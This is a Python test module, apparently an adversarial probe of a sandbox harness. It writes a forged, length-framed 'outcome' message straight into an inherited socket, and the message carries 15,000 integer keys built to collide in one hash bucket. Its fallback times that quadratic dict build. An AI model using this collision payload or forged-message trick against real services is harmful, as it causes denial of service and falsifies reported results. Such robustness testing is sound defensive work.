"""Sends a dict of whole numbers that all have one hash: building it takes time with the square of their number.

Held: wrong_type failed crashed output_too_large
"""

import json
import os
import stat
import struct
import time

COUNT = 15_000


def link():
    for number in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                return number
        except OSError:
            continue
    return None


def attack(target):
    prime = 2**61 - 1
    where = link()
    if where is not None:
        pairs = ",".join(f"[{number * prime},0]" for number in range(1, COUNT + 1))
        head = ('{"status":"value","value":{"d":[' + pairs + "]}}").encode()
        start = json.dumps({"is": "outcome", "check": "attack", "seconds": 0.0}).encode()
        data = memoryview(struct.pack("!IIQ", len(start), len(head), 0) + start + head)
        while data:
            data = data[os.write(where, data) :]
        return None
    began = time.perf_counter()
    {number * prime: 0 for number in range(1, 6001)}
    few = time.perf_counter() - began
    began = time.perf_counter()
    {number: 0 for number in range(1, 6001)}
    usual = time.perf_counter() - began
    return f"{few:.2f} s instead of {usual:.4f}" if few > 50 * usual else None
